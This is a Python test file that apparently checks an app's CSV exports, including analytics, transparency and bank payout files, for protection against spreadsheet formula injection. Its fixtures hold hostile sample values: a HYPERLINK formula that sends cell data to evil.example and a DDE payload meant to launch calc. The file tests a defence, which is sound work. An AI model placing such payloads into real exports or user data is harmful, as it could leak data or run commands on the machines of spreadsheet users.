"""Every CSV export neutralises formula injection, through one function (app/core/csv_export.py)."""

import csv
import io
import re
from datetime import datetime, timezone
from pathlib import Path

import pytest

from app.accounts.models import Role
from app.analytics.services import rollups
from app.core.csv_export import safe_cell, write_csv
from app.core.extensions import db
from app.payments.models import Payout, PayoutMethod, PayoutStatus
from app.payments.services import wallet
from tests.factories import (
    bearer,
    enable_two_factor,
    login,
    make_artist,
    make_release,
    make_track,
    make_user,
    token_for,
)
from tests.payments.test_payouts import bank_artist, earn, period, run  # noqa: F401 (period: a fixture)

APP = Path(__file__).resolve().parents[2] / "app"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", ["=1+1", "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", EVIL, "=", "-"])
def test_formula_cells_are_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-1.5", "+3", "-7", 42, -3, "plain", "", None, "a=b"])
def test_numbers_and_text_stay_as_they_are(value):
    assert safe_cell(value) == ("" if value is None else str(value))


def test_write_csv_applies_it_to_every_cell():
    text = write_csv([["a", EVIL], ["@x", "-5"]])
    assert list(csv.reader(io.StringIO(text))) == [["a", "'" + EVIL], ["'@x", "-5"]]


def test_every_csv_writer_in_the_app_is_the_one_function():
    for path in APP.rglob("*.py"):
        if path.name == "csv_export.py":
            continue
        text = path.read_text()
        assert not re.search(r"csv\.(writer|DictWriter)", text), f"{path}: write CSV through app.csv_export"


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_artist_analytics_csv_with_a_listener_named_like_a_formula(client, app_ctx):
    manager = make_user()
    artist = make_artist(manager=manager)
    track = make_track(release=make_release(artist=artist))
    fan = make_user(display_name=EVIL)
    fan.visible_to_artists = True
    wallet.admin_top_up(fan.id, "1", f"t-{fan.id}")
    wallet.charge_play(fan, track, f"p-{fan.id}")
    db.session.commit()
    rollups.update()
    db.session.commit()
    r = client.get(f"/api/v1/artists/{artist.id}/analytics.csv", headers=bearer(token_for(manager)))
    assert r.status_code == 200
    keys = [row[1] for row in _rows(r.text) if row[0] == "visible_listeners"]
    assert keys and all(key == "'" + EVIL for key in keys)
    assert not any(cell.startswith(("=", "@", "+")) for row in _rows(r.text) for cell in row)


def test_track_titles_in_the_analytics_csv(client, app_ctx):
    manager = make_user()
    artist = make_artist(manager=manager)
    track = make_track(release=make_release(artist=artist), title="@evil")
    r = client.get(f"/api/v1/artists/{artist.id}/analytics.csv", headers=bearer(token_for(manager)))
    keys = {row[1] for row in _rows(r.text) if row[0] == "tracks"}
    assert keys == {f"{track.id} @evil"}  # starts with the id: harmless, kept


def test_open_books_csv_with_an_artist_named_like_a_formula(client, app_ctx):
    artist = make_artist(name="@SUM(1+1)*cmd|' /C calc'!A0")
    now = datetime.now(timezone.utc)
    db.session.add(
        Payout(
            artist_id=artist.id,
            period="2000-01",
            credits=8_000_000,
            currency="EUR",
            credit_price_cents=125,
            method=PayoutMethod.BANK,
            status=PayoutStatus.PAID,
            amount_cents=1000,
            paid_at=now,
        )
    )
    db.session.commit()
    text = client.get(f"/transparency/{now:%Y-%m}.csv").text
    payouts = [row for row in _rows(text) if row[0] == "payout"]
    assert payouts and payouts[0][1] == "'" + artist.name


def test_bank_csv_with_an_artist_named_like_a_formula(client, app_ctx, period):
    artist = bank_artist(name="-2+3")
    earn(artist, 12)
    run(period)
    admin = make_user(role=Role.ADMIN)
    enable_two_factor(admin)  # the payout pages need a second factor
    login(client, admin)
    rows = list(csv.DictReader(io.StringIO(client.get("/admin/payouts/bank.csv").text)))
    (row,) = [row for row in rows if row["period"] == period]
    assert row["artist"] == "'-2+3"
